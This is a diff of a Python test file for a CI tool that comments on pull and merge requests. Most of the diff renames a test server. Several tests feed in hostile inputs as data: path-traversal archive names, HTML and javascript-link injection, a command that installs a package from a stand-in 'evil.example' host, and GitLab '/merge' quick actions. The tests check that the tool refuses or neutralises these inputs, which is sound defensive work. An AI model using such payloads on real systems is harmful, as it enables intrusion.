@@ -14,7 +14,7 @@ from typing import Any
 import pytest
 
 from hlodiff.integrations.code_hosts.artifact import read_artifact
-from tests.forge_server import BOT, COMMIT, TOKEN, Forge, pull, served, workflow_run, zipped
+from tests.code_host_server import BOT, COMMIT, TOKEN, CodeHost, pull, served, workflow_run, zipped
 
 ROOT = Path(__file__).parent.parent
 LAYERS = ROOT / "tests/fixtures/report/layers"
@@ -34,9 +34,9 @@ def red() -> str:
 
 
 @pytest.fixture
-def forge(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Forge]:
+def code_host(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[CodeHost]:
     monkeypatch.chdir(tmp_path)
-    with served(Forge()) as found:
+    with served(CodeHost()) as found:
         variables = {
             "GITHUB_API_URL": found.address,
             "GITHUB_SERVER_URL": "https://forge.example",
@@ -57,11 +57,11 @@ def event(table: Any) -> None:
     Path("event.json").write_text(json.dumps(table))
 
 
-def test_a_change_is_said_once_and_then_in_place(forge: Forge, said: Ask) -> None:
-    forge.comment("<!-- hlodiff -->\nI only look like it", login="guest")
-    forge.comment("something else")
+def test_a_change_is_said_once_and_then_in_place(code_host: CodeHost, said: Ask) -> None:
+    code_host.comment("<!-- hlodiff -->\nI only look like it", login="guest")
+    code_host.comment("something else")
     assert said("comment") == (0, "comment on owner/project#7: added\n", "")
-    body = forge.bodies()[2]
+    body = code_host.bodies()[2]
     assert body.startswith("<!-- hlodiff -->\n### hlodiff: check\n")
     assert body.endswith(
         "Meant? Record what CI captured: `gh run download 123 -R owner/project -n hlodiff-pending -D hlodiff-123"
@@ -71,59 +71,59 @@ def test_a_change_is_said_once_and_then_in_place(forge: Forge, said: Ask) -> Non
     assert said("comment") == (0, "comment on owner/project#7: left as it is\n", "")
     event(workflow_run(id=124))
     assert said("comment") == (0, "comment on owner/project#7: changed\n", "")
-    forge.archive = zipped({"hlodiff.json": quiet(), "pull-request": "7"})
+    code_host.archive = zipped({"hlodiff.json": quiet(), "pull-request": "7"})
     assert said("comment") == (0, "comment on owner/project#7: changed\n", "")
-    assert "nothing to compare" in forge.bodies()[2]
-    assert "Meant?" not in forge.bodies()[2]
-    assert forge.bodies()[0].endswith("I only look like it")
-    assert forge.writes() == [
+    assert "nothing to compare" in code_host.bodies()[2]
+    assert "Meant?" not in code_host.bodies()[2]
+    assert code_host.bodies()[0].endswith("I only look like it")
+    assert code_host.writes() == [
         "POST /repos/owner/project/issues/7/comments",
         "PATCH /repos/owner/project/issues/comments/502",
         "PATCH /repos/owner/project/issues/comments/502",
     ]
 
 
-def test_each_of_several_projects_has_a_comment_of_its_own(forge: Forge, said: Ask) -> None:
+def test_each_of_several_projects_has_a_comment_of_its_own(code_host: CodeHost, said: Ask) -> None:
     event({"pull_request": {"number": 5}})
     Path("hlodiff.json").write_text(red())
     for name in ("hlodiff", "models", "models"):
         assert said("comment", "hlodiff.json", "--artifact", name)[0] == 0
-    assert [body.split("\n")[:2] for body in forge.bodies()] == [
+    assert [body.split("\n")[:2] for body in code_host.bodies()] == [
         ["<!-- hlodiff -->", "### hlodiff: check"],
         ["<!-- hlodiff models -->", "### hlodiff: check (`models`)"],
     ]
-    assert "-n models-pending -D models-456" in forge.bodies()[1]
+    assert "-n models-pending -D models-456" in code_host.bodies()[1]
     code, _, err = said("comment", "hlodiff.json", "--artifact", "a -->")
     assert (code, "is no name of an artifact" in err) == (2, True)
 
 
-def test_nothing_changed_and_nothing_is_said(forge: Forge, said: Ask) -> None:
-    forge.archive = zipped({"hlodiff.json": quiet(), "pull-request": "7"})
+def test_nothing_changed_and_nothing_is_said(code_host: CodeHost, said: Ask) -> None:
+    code_host.archive = zipped({"hlodiff.json": quiet(), "pull-request": "7"})
     assert said("comment") == (0, "comment on owner/project#7: not needed\n", "")
-    assert forge.writes() == []
+    assert code_host.writes() == []
 
 
-def test_our_comment_is_found_on_the_third_page(forge: Forge, said: Ask) -> None:
+def test_our_comment_is_found_on_the_third_page(code_host: CodeHost, said: Ask) -> None:
     for number in range(230):
-        forge.comment(f"{number}", login="guest")
-    forge.comment("<!-- hlodiff -->\r\nold\r\n")
+        code_host.comment(f"{number}", login="guest")
+    code_host.comment("<!-- hlodiff -->\r\nold\r\n")
     assert said("comment")[1] == "comment on owner/project#7: changed\n"
 
 
-def test_the_token_goes_to_the_api_alone(forge: Forge, said: Ask) -> None:
+def test_the_token_goes_to_the_api_alone(code_host: CodeHost, said: Ask) -> None:
     said("comment")
-    assert dict(forge.tokens) == {"api": f"Bearer {TOKEN}", "storage": ""}
+    assert dict(code_host.tokens) == {"api": f"Bearer {TOKEN}", "storage": ""}
 
 
-def test_the_branch_of_a_fork_is_no_query(forge: Forge, said: Ask) -> None:
+def test_the_branch_of_a_fork_is_no_query(code_host: CodeHost, said: Ask) -> None:
     said("comment")
-    (asked,) = [line for line in forge.asked if "/pulls?" in line]
+    (asked,) = [line for line in code_host.asked if "/pulls?" in line]
     assert "head=guest%3Aa+branch%26state%3Dclosed&" in asked
 
 
-def test_a_dry_run_writes_nothing(forge: Forge, said: Ask) -> None:
+def test_a_dry_run_writes_nothing(code_host: CodeHost, said: Ask) -> None:
     code, out, _ = said("comment", "--dry-run")
-    assert (code, forge.writes()) == (0, [])
+    assert (code, code_host.writes()) == (0, [])
     assert out.endswith("\ncomment on owner/project#7: would be added\n")
 
 
@@ -131,13 +131,13 @@ def test_a_dry_run_writes_nothing(forge: Forge, said: Ask) -> None:
 
 
 @pytest.mark.parametrize("claimed", ["8", "999999"])
-def test_a_number_of_another_pull_request_is_refused(forge: Forge, said: Ask, claimed: str) -> None:
-    forge.pulls = [pull(7), pull(8, commit="b" * 40)]
-    forge.archive = zipped({"hlodiff.json": red(), "pull-request": claimed})
+def test_a_number_of_another_pull_request_is_refused(code_host: CodeHost, said: Ask, claimed: str) -> None:
+    code_host.pulls = [pull(7), pull(8, commit="b" * 40)]
+    code_host.archive = zipped({"hlodiff.json": red(), "pull-request": claimed})
     code, _, err = said("comment")
     assert code == 2
     assert f"the artifact names pull request {claimed}, and the run was about 7: nothing is posted" in err
-    assert forge.writes() == []
+    assert code_host.writes() == []
 
 
 @pytest.mark.parametrize(
@@ -150,23 +150,23 @@ def test_a_number_of_another_pull_request_is_refused(forge: Forge, said: Ask, cl
     ],
     ids=["pushed since", "another fork", "another project", "fork deleted"],
 )
-def test_where_no_pull_request_fits_nothing_is_said(forge: Forge, said: Ask, other: dict[str, Any]) -> None:
-    forge.pulls = [other]
+def test_where_no_pull_request_fits_nothing_is_said(code_host: CodeHost, said: Ask, other: dict[str, Any]) -> None:
+    code_host.pulls = [other]
     code, out, err = said("comment")
-    assert (code, out, forge.writes()) == (0, "", [])
+    assert (code, out, code_host.writes()) == (0, "", [])
     assert "no open pull request has the commit of this run as its head" in err
 
 
-def test_of_two_pull_requests_with_one_head_the_artifact_chooses(forge: Forge, said: Ask) -> None:
-    forge.pulls = [pull(7), pull(8)]
-    forge.archive = zipped({"hlodiff.json": red(), "pull-request": "8"})
+def test_of_two_pull_requests_with_one_head_the_artifact_chooses(code_host: CodeHost, said: Ask) -> None:
+    code_host.pulls = [pull(7), pull(8)]
+    code_host.archive = zipped({"hlodiff.json": red(), "pull-request": "8"})
     assert said("comment")[1] == "comment on owner/project#8: added\n"
-    forge.archive = zipped({"hlodiff.json": red()})
+    code_host.archive = zipped({"hlodiff.json": red()})
     assert "fits pull requests [7, 8]" in said("comment")[2]
 
 
-def test_without_a_number_the_event_is_enough(forge: Forge, said: Ask) -> None:
-    forge.archive = zipped({"hlodiff.json": red()})
+def test_without_a_number_the_event_is_enough(code_host: CodeHost, said: Ask) -> None:
+    code_host.archive = zipped({"hlodiff.json": red()})
     assert said("comment")[1] == "comment on owner/project#7: added\n"
 
 
@@ -182,17 +182,17 @@ def test_without_a_number_the_event_is_enough(forge: Forge, said: Ask) -> None:
     ],
     ids=["no event", "a list", "push", "commit", "id", "repository"],
 )
-def test_an_event_that_is_none(forge: Forge, said: Ask, table: Any, words: str) -> None:
+def test_an_event_that_is_none(code_host: CodeHost, said: Ask, table: Any, words: str) -> None:
     event(table)
     code, _, err = said("comment")
-    assert (code, forge.asked) == (2, [])
+    assert (code, code_host.asked) == (2, [])
     assert words in err
 
 
-def test_a_fork_that_is_gone_has_no_pull_request(forge: Forge, said: Ask) -> None:
+def test_a_fork_that_is_gone_has_no_pull_request(code_host: CodeHost, said: Ask) -> None:
     event(workflow_run(head_repository=None))
     assert said("comment")[0] == 0
-    assert forge.writes() == []
+    assert code_host.writes() == []
 
 
 # --- a hostile artifact ----------------------------------------------------------------------------------------------
@@ -211,47 +211,47 @@ HOSTILE = {
 
 
 @pytest.mark.parametrize("kind", HOSTILE)
-def test_a_hostile_artifact_is_refused(forge: Forge, said: Ask, kind: str) -> None:
-    forge.archive, words = HOSTILE[kind]
+def test_a_hostile_artifact_is_refused(code_host: CodeHost, said: Ask, kind: str) -> None:
+    code_host.archive, words = HOSTILE[kind]
     code, out, err = said("comment")
-    assert (code, out, forge.writes()) == (2, "", [])
+    assert (code, out, code_host.writes()) == (2, "", [])
     assert words in err
 
 
-def test_paths_in_the_artifact_lead_nowhere(forge: Forge, said: Ask, tmp_path: Path) -> None:
+def test_paths_in_the_artifact_lead_nowhere(code_host: CodeHost, said: Ask, tmp_path: Path) -> None:
     names = ("../../escaped", "/escaped", "a/../../escaped", "hlodiff.json/../x", "./hlodiff.json")
     before = sorted(path.name for path in tmp_path.parent.rglob("*"))
-    forge.archive = zipped({**dict.fromkeys(names, "x"), "pull-request": "7"})
+    code_host.archive = zipped({**dict.fromkeys(names, "x"), "pull-request": "7"})
     code, _, err = said("comment")
-    assert (code, forge.writes()) == (0, [])
+    assert (code, code_host.writes()) == (0, [])
     assert "has uploaded no result" in err
     assert sorted(path.name for path in tmp_path.parent.rglob("*")) == before
 
 
 @pytest.mark.filterwarnings("ignore:Duplicate name")
-def test_a_name_that_stands_twice_is_refused(forge: Forge, said: Ask) -> None:
+def test_a_name_that_stands_twice_is_refused(code_host: CodeHost, said: Ask) -> None:
     packed = zipped({"hlodiff.json": red(), "hlodiff.jsoX": quiet()}).replace(b"hlodiff.jsoX", b"hlodiff.json")
-    forge.archive = packed
+    code_host.archive = packed
     assert "names hlodiff.json 2 times" in said("comment")[2]
 
 
-def test_a_size_that_is_said_too_large_is_not_even_loaded(forge: Forge, said: Ask) -> None:
-    forge.said_size = 64 * 1024**2 + 1
+def test_a_size_that_is_said_too_large_is_not_even_loaded(code_host: CodeHost, said: Ask) -> None:
+    code_host.said_size = 64 * 1024**2 + 1
     assert "is larger than 64 MiB" in said("comment")[2]
-    assert not any("/zip" in line for line in forge.asked)
+    assert not any("/zip" in line for line in code_host.asked)
 
 
-def test_names_in_the_result_stay_text(forge: Forge, said: Ask) -> None:
+def test_names_in_the_result_stay_text(code_host: CodeHost, said: Ask) -> None:
     name = "</details><img src=x> @owner [x](javascript:1) `a`\n<!-- hlodiff -->"
-    forge.archive = zipped({"hlodiff.json": red().replace('"f"', json.dumps(name))})
+    code_host.archive = zipped({"hlodiff.json": red().replace('"f"', json.dumps(name))})
     assert said("comment")[0] == 0
-    (body,) = forge.bodies()
+    (body,) = code_host.bodies()
     assert "<img" in body
     assert "<img" not in re.sub(r"(`+).+?\1", "", body), "outside of code"
     assert body.count("\n<!-- hlodiff -->") == 0
 
 
-def test_no_command_of_a_result_is_in_the_comment(forge: Forge, said: Ask) -> None:
+def test_no_command_of_a_result_is_in_the_comment(code_host: CodeHost, said: Ask) -> None:
     evil = "hlodiff upgrade 'evil @ https://evil.example'"
     program = {
         "name": "f",
@@ -263,9 +263,11 @@ def test_no_command_of_a_result_is_in_the_comment(forge: Forge, said: Ask) -> No
     }
     finding = {"severity": "error", "rule": "growth", "program": "f", "target": None, "what": evil, "advice": evil}
     sheet = QUIET | {"programs": [program], "findings": [finding], "notes": [evil], "next": evil}
-    forge.archive = zipped({"hlodiff.json": json.dumps({"format_version": "1.0", "sheet": sheet}), "pull-request": "7"})
+    code_host.archive = zipped(
+        {"hlodiff.json": json.dumps({"format_version": "1.0", "sheet": sheet}), "pull-request": "7"}
+    )
     assert said("comment")[0] == 0
-    (body,) = forge.bodies()
+    (body,) = code_host.bodies()
     assert "evil" not in body
     assert "hint" not in body
     assert "next" not in body
@@ -279,12 +281,12 @@ def test_a_member_that_lies_about_its_size() -> None:
         read_artifact(bytes(packed), "it")
 
 
-# --- the forge says no -----------------------------------------------------------------------------------------------
+# --- the code host says no --------------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(("status", "hint"), [(403, True), (404, True), (500, False)])
-def test_what_the_api_refuses_is_told(forge: Forge, said: Ask, status: int, hint: bool) -> None:
-    forge.fail["/comments"] = status
+def test_what_the_api_refuses_is_told(code_host: CodeHost, said: Ask, status: int, hint: bool) -> None:
+    code_host.fail["/comments"] = status
     code, out, err = said("comment")
     assert (code, out) == (2, "")
     assert f"GET /repos/owner/project/issues/7/comments: answered {status}" in err
@@ -292,21 +294,21 @@ def test_what_the_api_refuses_is_told(forge: Forge, said: Ask, status: int, hint
     assert TOKEN not in err
 
 
-def test_a_run_without_an_artifact_says_nothing(forge: Forge, said: Ask) -> None:
-    forge.archive = None
+def test_a_run_without_an_artifact_says_nothing(code_host: CodeHost, said: Ask) -> None:
+    code_host.archive = None
     code, out, err = said("comment")
     assert (code, out) == (0, "")
     assert "run 123 has uploaded no result as `hlodiff`" in err
 
 
 @pytest.mark.parametrize("name", ["GITHUB_TOKEN", "GITHUB_EVENT_PATH", "GITHUB_API_URL"])
-def test_what_is_missing_is_named(forge: Forge, said: Ask, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
+def test_what_is_missing_is_named(code_host: CodeHost, said: Ask, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
     monkeypatch.delenv(name)
     code, _, err = said("comment")
-    assert (code, f"{name} is not set" in err, forge.asked) == (2, True, [])
+    assert (code, f"{name} is not set" in err, code_host.asked) == (2, True, [])
 
 
-def test_a_server_that_is_not_there(forge: Forge, said: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_server_that_is_not_there(code_host: CodeHost, said: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("GITHUB_API_URL", "http://127.0.0.1:9")
     code, _, err = said("comment")
     assert (code, "cannot be reached" in err) == (2, True)
@@ -315,20 +317,20 @@ def test_a_server_that_is_not_there(forge: Forge, said: Ask, monkeypatch: pytest
 # --- without a second workflow, and GitLab ---------------------------------------------------------------------------
 
 
-def test_in_the_workflow_of_the_pull_request_itself(forge: Forge, said: Ask) -> None:
+def test_in_the_workflow_of_the_pull_request_itself(code_host: CodeHost, said: Ask) -> None:
     event({"pull_request": {"number": 5}})
     Path("hlodiff.json").write_text(red())
     assert said("comment", "hlodiff.json") == (0, "comment on owner/project#5: added\n", "")
-    assert "gh run download 456" in forge.bodies()[0]
+    assert "gh run download 456" in code_host.bodies()[0]
     event({"push": 1})
     assert "this event is about no pull request" in said("comment", "hlodiff.json")[2]
 
 
 @pytest.fixture
-def gitlab(forge: Forge, monkeypatch: pytest.MonkeyPatch) -> Forge:
+def gitlab(code_host: CodeHost, monkeypatch: pytest.MonkeyPatch) -> CodeHost:
     variables = {
         "GITLAB_CI": "true",
-        "CI_API_V4_URL": forge.address,
+        "CI_API_V4_URL": code_host.address,
         "CI_PROJECT_ID": "42",
         "CI_MERGE_REQUEST_IID": "6",
         "CI_PIPELINE_URL": "https://forge.example/p/9",
@@ -337,10 +339,10 @@ def gitlab(forge: Forge, monkeypatch: pytest.MonkeyPatch) -> Forge:
     for name, value in variables.items():
         monkeypatch.setenv(name, value)
     Path("hlodiff.json").write_text(red())
-    return forge
+    return code_host
 
 
-def test_a_note_on_a_merge_request(gitlab: Forge, said: Ask) -> None:
+def test_a_note_on_a_merge_request(gitlab: CodeHost, said: Ask) -> None:
     gitlab.comment("<!-- hlodiff -->\nsomebody else's", ident=1)
     assert said("comment", "hlodiff.json") == (0, "comment on project 42!6: added\n", "")
     assert said("comment", "hlodiff.json")[1] == "comment on project 42!6: left as it is\n"
@@ -351,7 +353,7 @@ def test_a_note_on_a_merge_request(gitlab: Forge, said: Ask) -> None:
     assert {token for _, token in gitlab.tokens} == {TOKEN}
 
 
-def test_no_line_of_a_note_is_a_command(gitlab: Forge, said: Ask) -> None:
+def test_no_line_of_a_note_is_a_command(gitlab: CodeHost, said: Ask) -> None:
     reason = "x\n/merge\n /close"
     program = {"name": "/merge", "target": "cpu", "stage": "compiled", "status": "not_checked", "reason": reason}
     finding = {"severity": "error", "rule": "r", "program": "p", "target": None, "what": "/merge\n/close"}
@@ -361,13 +363,13 @@ def test_no_line_of_a_note_is_a_command(gitlab: Forge, said: Ask) -> None:
     assert not [line for line in gitlab.bodies()[0].split("\n") if line.lstrip().startswith("/")]
 
 
-def test_a_pipeline_of_no_merge_request(gitlab: Forge, said: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_pipeline_of_no_merge_request(gitlab: CodeHost, said: Ask, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.delenv("CI_MERGE_REQUEST_IID")
     assert "this is no pipeline of a merge request" in said("comment", "hlodiff.json")[2]
     assert "on GitLab the result is a file" in said("comment")[2]
 
 
-def test_commenting_needs_next_to_nothing_installed(forge: Forge) -> None:
+def test_commenting_needs_next_to_nothing_installed(code_host: CodeHost) -> None:
     """A process that holds a token that may write should not run the code of thirty packages."""
     code = (
         "import sys, click; from hlodiff.cli import run; before = set(sys.modules); assert run(['comment']) == 0\n"
